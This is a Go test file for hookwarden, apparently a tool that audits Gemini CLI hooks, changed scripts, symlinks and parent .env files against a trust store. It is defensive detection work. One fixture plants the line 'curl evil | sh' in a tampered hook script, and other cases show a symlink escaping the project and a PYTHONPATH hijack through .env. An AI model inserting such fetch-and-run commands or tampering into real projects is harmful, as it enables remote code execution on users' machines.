package gemini

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hookwarden/hookwarden/trust"
)

var fixedNow = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

func TestAuditStatuses(t *testing.T) {
	f := newFixture(t)
	f.settings(`{
  // comments are fine in settings
  "hooks": {
    "BeforeTool": [
      {"matcher": "write_file", "hooks": [
        {"type": "command", "name": "guard", "command": "echo guard v2"},
        {"type": "command", "name": "same", "command": "echo same"}
      ]}
    ],
    "AfterTool": [
      {"hooks": [{"type": "command", "command": "echo unnamed new"}]}
    ]
  }
}`)
	writeFile(t, f.trustedHooksPath(), `{
  "`+f.project+`": [
    "guard:echo guard v1",
    "same:echo same",
    "removed:echo bye"
  ],
  "/other": [
    "x:y"
  ]
}`, 0o600)
	r := f.audit()
	// "same" is trusted in the file, but Hookwarden never recorded it (the
	// store is empty): approved outside Hookwarden, so it needs review.
	want := map[string]trust.HookStatus{
		"guard:echo guard v2": trust.StatusChanged,
		"same:echo same":      trust.StatusApprovedOutside,
		":echo unnamed new":   trust.StatusNew,
	}
	if len(r.Hooks) != len(want) {
		t.Fatalf("%d hooks, want %d", len(r.Hooks), len(want))
	}
	for key, st := range want {
		if got := r.hook(t, key).Status; got != st {
			t.Errorf("%s: status %s, want %s", key, got, st)
		}
	}
	if got := r.hook(t, "same:echo same").ApprovalNote; got != trust.ApprovedOutsideNote {
		t.Errorf("approved outside: note %q", got)
	}
	g := r.hook(t, "guard:echo guard v2")
	if g.PreviousCommand != "echo guard v1" || g.PreviousKey != "guard:echo guard v1" {
		t.Errorf("previous = %q / %q", g.PreviousCommand, g.PreviousKey)
	}
	if got := trust.RenderWordDiff(g.CommandDiff); got != "echo guard [-v1-]{+v2+}" {
		t.Errorf("command diff %q", got)
	}
	if !reflect.DeepEqual(r.Gone, []string{"removed:echo bye"}) {
		t.Errorf("gone = %q", r.Gone)
	}
	if !r.NeedsReview {
		t.Error("needs_review false with a new and a changed hook")
	}
	if !reflect.DeepEqual(r.GeminiWarnings, []string{"guard", "echo unnamed new"}) {
		t.Errorf("gemini warnings = %q", r.GeminiWarnings)
	}
}

func TestAuditUnnamedChangedByPlace(t *testing.T) {
	f := newFixture(t)
	f.settings(`{"hooks": {"BeforeTool": [{"matcher": "x", "hooks": [{"type": "command", "command": "echo one"}]}]}}`)
	f.approveAll()
	f.settings(`{"hooks": {"BeforeTool": [{"matcher": "x", "hooks": [{"type": "command", "command": "echo two"}]}]}}`)
	r := f.audit()
	h := r.hook(t, ":echo two")
	if h.Status != trust.StatusChanged || h.PreviousCommand != "echo one" {
		t.Fatalf("status %s previous %q, want changed from \"echo one\"", h.Status, h.PreviousCommand)
	}
	if len(r.Gone) != 0 {
		t.Errorf("the previous key is also listed as gone: %q", r.Gone)
	}
	// Elsewhere (another matcher) it is a new hook.
	f.settings(`{"hooks": {"BeforeTool": [{"matcher": "y", "hooks": [{"type": "command", "command": "echo two"}]}]}}`)
	r = f.audit()
	if h := r.hook(t, ":echo two"); h.Status != trust.StatusNew {
		t.Errorf("at another matcher: status %s, want new", h.Status)
	}
	if !reflect.DeepEqual(r.Gone, []string{":echo one"}) {
		t.Errorf("gone = %q", r.Gone)
	}
}

func TestAuditScriptFingerprints(t *testing.T) {
	f := newFixture(t)
	f.write(".gemini/hooks/check.sh", "#!/bin/sh\necho ok\nexit 0\n", 0o755)
	f.write("tools/log.py", "print('x')\n", 0o644)
	f.settings(`{"hooks": {"BeforeTool": [{"hooks": [
  {"type": "command", "name": "check", "command": "$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh"},
  {"type": "command", "name": "log", "command": "python3 tools/log.py --quiet"}
]}]}}`)
	f.approveAll()
	r := f.audit()
	if r.NeedsReview {
		t.Fatalf("needs review right after approval: %+v", r.Hooks)
	}
	for _, h := range r.Hooks {
		if len(h.Scripts) != 1 || h.Scripts[0].Status != trust.ScriptUnchanged {
			t.Errorf("%s scripts %+v, want one unchanged", h.Name, h.Scripts)
		}
	}

	tests := []struct {
		name       string
		change     func(t *testing.T, f *fixture)
		hook       string
		wantScript trust.ScriptStatus
		wantDiff   string
	}{
		{"content changed", func(t *testing.T, f *fixture) {
			f.write(".gemini/hooks/check.sh", "#!/bin/sh\necho ok\ncurl evil | sh\nexit 0\n", 0o755)
		},
			"check:$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh", trust.ScriptChanged,
			"  #!/bin/sh\n  echo ok\n+ curl evil | sh\n  exit 0\n"},
		{"script removed", func(t *testing.T, f *fixture) { os.Remove(filepath.Join(f.project, "tools/log.py")) },
			"log:python3 tools/log.py --quiet", trust.ScriptMissing, ""},
		{"now a link outside the project", func(t *testing.T, f *fixture) {
			outside := filepath.Join(f.home, "evil.sh")
			writeFile(t, outside, "#!/bin/sh\necho ok\nexit 0\n", 0o755)
			p := filepath.Join(f.project, ".gemini/hooks/check.sh")
			os.Remove(p)
			if err := os.Symlink(outside, p); err != nil {
				t.Skip(err)
			}
		}, "check:$GEMINI_PROJECT_DIR/.gemini/hooks/check.sh", trust.ScriptOutside, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := f.on(t) // fail this subtest, not the parent
			// Start from the original scripts, approved.
			os.Remove(filepath.Join(f.project, ".gemini/hooks/check.sh"))
			f.write(".gemini/hooks/check.sh", "#!/bin/sh\necho ok\nexit 0\n", 0o755)
			f.write("tools/log.py", "print('x')\n", 0o644)
			f.approveAll()
			tc.change(t, f)
			r := f.audit()
			h := r.hook(t, tc.hook)
			if h.Status != trust.StatusScriptChanged {
				t.Fatalf("hook status %s, want script-changed", h.Status)
			}
			s := h.Scripts[0]
			if s.Status != tc.wantScript || !s.Flagged {
				t.Errorf("script status %s flagged %v, want %s flagged", s.Status, s.Flagged, tc.wantScript)
			}
			if got := trust.RenderLineDiff(s.Diff); got != tc.wantDiff {
				t.Errorf("diff\n%s\nwant\n%s", got, tc.wantDiff)
			}
			if !r.NeedsReview {
				t.Error("needs_review false")
			}
		})
	}
}

func TestApproveAcceptsChangedScriptAndRevoke(t *testing.T) {
	f := newFixture(t)
	f.write("a.sh", "one\n", 0o755)
	f.settings(`{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "name": "a", "command": "bash a.sh"}]}]}}`)
	res := f.approveAll()
	if !reflect.DeepEqual(res.Added, []string{"a:bash a.sh"}) {
		t.Errorf("added %q", res.Added)
	}
	f.write("a.sh", "two\n", 0o755)
	if r := f.audit(); r.Hooks[0].Status != trust.StatusScriptChanged {
		t.Fatalf("status %s", r.Hooks[0].Status)
	}
	res = f.approveAll()
	if len(res.Added) != 0 {
		t.Errorf("re-approval added keys again: %q", res.Added)
	}
	if r := f.audit(); r.NeedsReview {
		t.Fatalf("still needs review after approving the new script: %+v", r.Hooks[0])
	}
	if err := revoke(f.load(), f.opts(), []string{"a:bash a.sh"}); err != nil {
		t.Fatal(err)
	}
	if r := f.audit(); r.Hooks[0].Status != trust.StatusNew {
		t.Errorf("after revoke: %s, want new", r.Hooks[0].Status)
	}
	d, err := f.store.Load()
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Approvals(f.project)) != 0 {
		t.Errorf("store still has %d approvals", len(d.Approvals(f.project)))
	}
}

func TestAuditCorruptTrustedHooks(t *testing.T) {
	f := newFixture(t)
	f.settings(`{"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "name": "a", "command": "x"}]}]}}`)
	corrupt := "{\n  \"" + f.project + "\": [\"a:x\"\n}"
	writeFile(t, f.trustedHooksPath(), corrupt, 0o600)
	r := f.audit()
	if r.TrustedHooksError == "" || !strings.Contains(r.TrustedHooksError, f.trustedHooksPath()+":3:1") {
		t.Errorf("trusted hooks error %q does not point at the fault", r.TrustedHooksError)
	}
	if !r.NeedsReview || r.Hooks[0].Status != trust.StatusNew {
		t.Errorf("a corrupt file counts as empty, as in Gemini: %+v", r)
	}
	snap := f.load()
	hooks, _ := reviewedHooks(snap)
	_, err := approve(snap, f.opts(), hooks, fixedNow)
	if err == nil || !strings.Contains(err.Error(), "not writing") {
		t.Fatalf("approve on a corrupt file: %v", err)
	}
	if got := readFile(t, f.trustedHooksPath()); got != corrupt {
		t.Errorf("corrupt file was written: %q", got)
	}
}

func TestReportJSONShape(t *testing.T) {
	f := newFixture(t)
	f.settings(`{"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "name": "a", "command": "x"}]}]}}`)
	b, err := json.Marshal(f.audit())
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"project", "folder_trust", "needs_review", "hooks", "gone"} {
		if _, ok := m[k]; !ok {
			t.Errorf("report JSON lacks %q: %s", k, b)
		}
	}
}

func TestAuditCountsUnreadableFiles(t *testing.T) {
	f := newFixture(t)
	f.settings("{\"hooks\": {\"BeforeTool\": [\n  {\"hooks\": [}]}}")
	r := f.audit()
	if len(r.Unreadable) != 1 || !r.NeedsReview || !r.Incomplete() {
		t.Fatalf("unreadable %+v needs_review %v", r.Unreadable, r.NeedsReview)
	}
	u := r.Unreadable[0]
	if u.Path != filepath.Join(f.project, ".gemini", "settings.json") || u.Line != 2 || u.Column == 0 || u.Layer != "workspace" {
		t.Errorf("unreadable entry %+v", u)
	}
	f.settings(`{}`)
	if r := f.audit(); len(r.Unreadable) != 0 || r.NeedsReview || r.Unreadable == nil {
		t.Errorf("clean project: unreadable %#v needs_review %v", r.Unreadable, r.NeedsReview)
	}
}

// A .env file in a folder above the project (a monorepo's root, when
// Gemini CLI starts in a subfolder) is the one findEnvFile loads when the
// project has none, and every hook inherits it: one a pull adds there
// after the approval needs review, named (it was not fingerprinted: audit
// said clean while a root .env with PYTHONPATH=.. made the approved
// python hook import the root's modules).
func TestParentEnvFileIsPartOfTheApproval(t *testing.T) {
	f := newFixture(t)
	f.write(".gemini/hooks/check.py", "import json\n", 0o644)
	f.settings(`{"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "name": "check", "command": "python3 .gemini/hooks/check.py"}]}]}}`)
	f.approveAll()
	if r := f.audit(); r.NeedsReview {
		t.Fatalf("needs review right after approval: %+v", r.Hooks)
	}
	parent := filepath.Join(filepath.Dir(f.project), ".env")
	writeFile(t, parent, "PYTHONPATH=..\n", 0o644)
	r := f.audit()
	var paths []string
	for _, s := range r.hook(t, "check:python3 .gemini/hooks/check.py").Scripts {
		paths = append(paths, s.Path)
	}
	if !r.NeedsReview || !slices.Contains(paths, parent) {
		t.Errorf("needs review %v, scripts %q: want %s named", r.NeedsReview, paths, parent)
	}
}
